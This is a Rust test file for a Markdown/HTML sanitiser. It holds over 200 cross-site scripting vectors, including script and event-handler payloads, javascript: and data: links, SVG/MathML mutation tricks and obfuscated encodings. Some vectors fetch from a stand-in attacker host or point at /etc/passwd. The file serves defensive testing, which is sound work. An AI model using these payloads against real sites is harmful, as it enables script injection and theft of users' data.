//! Hostile input of our own writing. Each vector is rendered alone and inside
//! everything that can hold it, and each is also thrown at the second wall
//! alone, as if the first had let it through.

use super::checker::{assert_safe, only_allowed_tokens};
use crate::{plain_text, render, sanitise::sanitise};

/// HTML that must come out as the text it is.
const RAW_HTML: &[&str] = &[
    // Scripts, whole and broken.
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<script\n>steal()</script\n>",
    "<script/x>steal()</script>",
    "<script>steal()",
    "</script><script>steal()</script>",
    "<<script>steal();//<</script>",
    "<script type=module>import('//evil.example')</script>",
    "<script\u{0c}>steal()</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
    // Event handlers.
    "<img src=x onerror=steal()>",
    "<img src=\"x\" OnErRoR = 'steal()'>",
    "<img/src=x/onerror=steal()>",
    "<img src=x onerror\n=\nsteal()>",
    "<img src=x:x onerror=&#115;teal()>",
    "<body onload=steal()>",
    "<div onmouseover=\"steal()\">over</div>",
    "<p onclick=steal()>click</p>",
    "<a href=\"https://a.example\" onfocus=steal() autofocus>x</a>",
    "<details open ontoggle=steal()>x</details>",
    "<video><source onerror=steal()></video>",
    "<audio src=x onerror=steal()></audio>",
    "<marquee onstart=steal()>x</marquee>",
    "<input onfocus=steal() autofocus>",
    "<select onfocus=steal() autofocus></select>",
    "<textarea onfocus=steal() autofocus></textarea>",
    "<b style=\"animation-name:x\" onanimationstart=steal()>x</b>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=steal()>x</p>",
    // Addresses that run.
    "<a href=\"javascript:steal()\">x</a>",
    "<a href=\"jav&#x09;ascript:steal()\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;steal()\">x</a>",
    "<a href=\" \u{1}javascript:steal()\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='javascript:steal()' href='https://a.example'>x</a>",
    "<a xlink:href=\"javascript:steal()\">x</a>",
    "<area href=\"javascript:steal()\">",
    // Frames, objects, forms, documents.
    "<iframe src=\"javascript:steal()\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;steal()&lt;/script&gt;\"></iframe>",
    "<frameset onload=steal()><frame src=x></frameset>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<applet code=x></applet>",
    "<form action=\"javascript:steal()\"><button>x</button></form>",
    "<form id=f></form><button form=f formaction=\"javascript:steal()\">x</button>",
    "<isindex action=javascript:steal() type=image>",
    "<input type=image src=x formaction=javascript:steal()>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:steal()\">",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=\"//evil.example/x.css\">",
    "<link rel=import href=\"//evil.example/x.html\">",
    "<html><head><title>x</title></head><body>y</body></html>",
    "<!DOCTYPE html><plaintext>x",
    "<portal src=\"https://evil.example\"></portal>",
    // Styles and remote pictures.
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p style='width:expression(steal())'>x</p>",
    "<img srcset=\"//evil.example/a 1x, //evil.example/b 2x\">",
    "<picture><source srcset=//evil.example/a><img></picture>",
    "<table background=\"//evil.example/x\"><tr><td>x</td></tr></table>",
    "<video poster=\"//evil.example/x\"></video>",
    "<input type=image src=\"//evil.example/x\">",
    "<body background=//evil.example/x>",
    "<a href=\"https://a.example\" ping=\"//evil.example/x\">x</a>",
    // SVG and MathML, and their ways in and out of HTML.
    "<svg onload=steal()></svg>",
    "<svg><script>steal()</script></svg>",
    "<svg><script href=\"data:,steal()\"/></svg>",
    "<svg><a xlink:href=\"javascript:steal()\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:steal() /><a id=x></a></svg>",
    "<svg><set attributeName=onload to=steal() /></svg>",
    "<svg><use href=\"//evil.example/x.svg#y\"/></svg>",
    "<svg><image href=\"//evil.example/x.png\"/></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=steal()>\">",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><desc><noembed></desc></noembed><img src=x onerror=steal()></svg>",
    "<svg><title><![CDATA[</title><script>steal()</script>]]></svg>",
    "<math><a xlink:href=\"javascript:steal()\">x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=steal()>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>steal()</script></annotation-xml></math>",
    "<math><mi><table><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=steal()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>",
    // Mutation: text that turns into markup when it is parsed again.
    "<noscript><style></noscript><img src=x onerror=steal()>",
    "<template><script>steal()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=steal()></template>",
    "<textarea></textarea><script>steal()</script>",
    "<title></title><img src=x onerror=steal()>",
    "<xmp><p title=\"</xmp><img src=x onerror=steal()>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=steal()>\">",
    "<listing>&lt;img src=x onerror=steal()&gt;</listing>",
    "<plaintext><img src=x onerror=steal()>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=steal()>\">",
    "<p id=x name=getElementById>clobber</p>",
    "<a id=cove><a id=cove name=config href=https://evil.example>x</a>",
    "<img name=body><form name=querySelector></form>",
    "<slot name=x></slot><custom-element onclick=steal()></custom-element>",
    // Comments, declarations, sections.
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><img src=x onerror=steal()> -->",
    "<!--[if IE]><script>steal()</script><![endif]-->",
    "<![CDATA[<img src=x onerror=steal()>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=steal()>",
    "<?php echo '<script>steal()</script>' ?>",
    "<!ENTITY x \"<script>steal()</script>\">",
    // Unclosed and misquoted.
    "<img src=x onerror=steal()//",
    "<img src=\"x` `<script>steal()</script>\"` `>",
    "<img \"\"\"><script>steal()</script>\">",
    "<a href=\"https://a.example\" title='\"><img src=x onerror=steal()>'>x</a>",
    "<a href=https://a.example/\"onmouseover=steal()>x</a>",
    "<p title=`><img src=x onerror=steal()>`>x</p>",
    "<table><td><img src=x onerror=steal()",
    "</p></div></main></body></html><script>steal()</script>",
    "<div></div></div></div><h1>mine now</h1>",
    // Letters that are not what they seem.
    "\u{ff1c}script\u{ff1e}steal()\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>steal()</script>",
    "<scr\u{ad}ipt>steal()</scr\u{ad}ipt>",
    "<\u{200b}script>steal()</script>",
    "<img src=x one\u{200d}rror=steal()>",
    "<\u{17f}cript>steal()</\u{17f}cript>",
    "+ADw-script+AD4-steal()+ADw-/script+AD4-",
    "\u{202e}<script>steal()</script>\u{202c}",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;img src=x onerror=steal()&#62;",
    "&#x3c&#x69mg src=x onerror=steal()&#x3e",
    "&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;",
];

/// Markdown that must not become a link, a picture or an attribute.
const MARKDOWN: &[&str] = &[
    "[x](javascript:steal())",
    "[x](JaVaScRiPt:steal())",
    "[x]( javascript:steal() )",
    "[x](<javascript:steal()>)",
    "[x](<java\tscript:steal()>)",
    "[x](java&#x0a;script:steal\\(\\))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal())",
    "[x](&#106;avascript:steal())",
    "[x](javascript&colon;steal())",
    "[x](javascript&#58;steal())",
    "[x](\\javascript:steal())",
    "[x](\u{1}javascript:steal())",
    "[x](\u{a0}javascript:steal())",
    "[x](\u{200b}javascript:steal())",
    "[x](javascript\u{200d}:steal())",
    "[x](javascript://a.example/%0Asteal())",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[x](DATA:image/svg+xml,<svg/onload=steal()>)",
    "[x](vbscript:msgbox(1))",
    "[x](feed:javascript:steal())",
    "[x](view-source:javascript:steal())",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](jar:https://a.example!/x)",
    "[x](//evil.example/x)",
    "[x](\\\\\\\\evil.example\\\\x)",
    "[x](https://nhs.example@evil.example/)",
    "[x](https:javascript:steal())",
    "[x](ht\ttps://a.example)",
    "[x](:javascript:steal())",
    "[x](#\"onclick=steal())",
    "[x](?javascript:steal())",
    // Quotes that would leave the attribute.
    "[x](https://a.example/\"onmouseover=\"steal())",
    "[x](https://a.example/&quot;onmouseover=&quot;steal())",
    "[x](<https://a.example/\" onmouseover=\"steal()>)",
    "[x](https://a.example/'onmouseover='steal())",
    "[x](https://a.example/`onmouseover=`steal())",
    "[x](https://a.example \"t\" onclick=steal())",
    "[x](https://a.example '\"><img src=x onerror=steal()>')",
    "[x](mailto:a@b.example\"onclick=\"steal())",
    "[x](<mailto:\"><img src=x onerror=steal()>>)",
    "[x](<tel:1\"><script>steal()</script>>)",
    "[\"><img src=x onerror=steal()>](https://a.example)",
    // References and autolinks.
    "[x][y]\n\n[y]: javascript:steal()",
    "[x][y]\n\n[y]: <javascript:steal()> \"t\"",
    "[x]\n\n[X]: vbscript:x",
    "[x][]\n\n[x]: data:text/html,x",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "<javascript:steal()>",
    "<JAVASCRIPT:steal()>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<https://a.example/\"onclick=steal()>",
    "<https://a.example/><img/src=x/onerror=steal()>",
    "<a@b.example\"onclick=steal()>",
    "https://a.example/\"onmouseover=steal()",
    "https://a.example/'><img src=x onerror=steal()>",
    "https://a.example/<script>steal()</script>",
    "https://javascript:steal()@evil.example",
    "http://[javascript:steal()]",
    "www.a.example\"onclick=steal()",
    "www.javascript:steal()",
    // Pictures.
    "![x](https://evil.example/p.png)",
    "![x](javascript:steal())",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![](//evil.example/p.png)",
    "![\" onerror=\"steal()](x)",
    "![x\" onerror=steal()](https://a.example/\"onerror=steal())",
    "![<img src=x onerror=steal()>](https://a.example/p.png)",
    "![![x](javascript:steal())](javascript:steal())",
    "[![x](https://evil.example/p.png)](javascript:steal())",
    "[![x](javascript:steal())](https://a.example)",
    // Links in links and marks that cross.
    "[a [b](javascript:1) c](https://a.example)",
    "[a <https://b.example> c](https://a.example)",
    "[a https://b.example c](https://a.example)",
    "[https://a.example](javascript:steal())",
    "![[a](https://a.example)](https://b.example)",
    "*[a*](javascript:steal())",
    "**[a](https://a.example/**)",
    "[a](https://a.example/`)`<script>`",
    "`<script>steal()</script>`",
    "```html onclick=steal()\n<script>steal()</script>\n```",
    "```\"><script>steal()</script>\nx\n```",
    "~~~ \" onclick=\"steal()\nx\n~~~",
    "    <script>steal()</script>",
    "# <img src=x onerror=steal()> {#x onclick=steal()}",
    "| <script> | b |\n|:--\"onclick=x|--|\n| </td></table><script>steal()</script> | y |",
    "| a |\n|---|\n| [x](javascript:steal()) |",
    "<div>\n\n[x](javascript:steal())\n\n</div>",
    "<b>[x](javascript:steal())</b>",
    "<!-- [x](javascript:steal()) -->",
    "[^1]\n\n[^1]: <script>steal()</script>",
    "$`<script>steal()</script>`$",
    "Term\n: <script>steal()</script>",
    "---\ntitle: <script>steal()</script>\n---",
    "99999999999. <script>steal()</script>",
    "999999999. \"onclick=steal()",
];

/// The vector where a member might put it.
fn in_every_place(vector: &str) -> Vec<String> {
    let one_line = vector.replace('\n', " ");
    vec![
        vector.to_owned(),
        format!("Words before {vector} and after"),
        format!("> {vector}"),
        format!("- one\n- {vector}\n  - {vector}"),
        format!("7) {vector}"),
        format!("# {one_line}"),
        format!("*{vector}* **{vector}** ~~{vector}~~"),
        format!("[{vector}](https://a.example)"),
        format!("![{vector}](https://a.example/p.png)"),
        format!("[x](https://a.example/{one_line})"),
        format!("[x](<{one_line}>)"),
        format!("[x](https://a.example \"{one_line}\")"),
        format!("[x]\n\n[x]: {one_line}"),
        format!("`{vector}`"),
        format!("```{one_line}\n{vector}\n```"),
        format!("| a | b |\n|---|---|\n| {one_line} | {one_line} |"),
        format!("https://a.example/{vector}"),
        format!("<{vector}>"),
        format!("<div>\n{vector}\n\n{vector}"),
        format!("{vector}{vector}"),
    ]
}

#[test]
fn there_are_enough_vectors() {
    assert!(
        RAW_HTML.len() + MARKDOWN.len() >= 200,
        "{} and {}",
        RAW_HTML.len(),
        MARKDOWN.len()
    );
}

#[test]
fn no_vector_gets_through_anywhere() {
    for vector in RAW_HTML.iter().chain(MARKDOWN) {
        for source in in_every_place(vector) {
            assert_safe(&source);
        }
    }
}

#[test]
fn the_second_wall_stands_alone() {
    for vector in RAW_HTML.iter().chain(MARKDOWN) {
        for html in [
            (*vector).to_owned(),
            format!("<p>{vector}</p>"),
            format!("<table><tr><td>{vector}"),
            format!("<a href=\"{vector}\">x</a>"),
            format!("{}{vector}", "&amp;".repeat(200)),
            format!("<svg><style>{vector}"),
        ] {
            let clean = sanitise(&html);
            let read = only_allowed_tokens(&clean);
            assert!(read.is_ok(), "{read:?}\nfrom {html:?}\ncame {clean}");
            assert_eq!(sanitise(&clean), clean, "from {html:?}");
        }
    }
}

#[test]
fn nothing_runs_and_nothing_is_fetched_but_the_words_stay() {
    for vector in RAW_HTML.iter().filter(|vector| vector.contains("steal()")) {
        let shown = super::checker::text_of(&render(vector).html);
        assert!(
            shown.contains("teal()"),
            "{vector:?} was shown as {shown:?}"
        );
        assert!(plain_text(vector).contains("teal()"), "{vector:?}");
    }
}

#[test]
fn refused_links_keep_their_label_and_make_no_link() {
    for source in MARKDOWN.iter().filter(|source| source.starts_with("[x](")) {
        let html = render(source).html;
        let href = html.split_once("href=\"").map(|(_, tail)| tail);
        assert!(html.contains('x'), "{source:?} lost its label: {html}");
        if let Some(href) = href {
            assert!(
                ["https://", "mailto:", "tel:"]
                    .iter()
                    .any(|scheme| href.starts_with(scheme)),
                "{source:?} became {html}"
            );
        }
    }
}
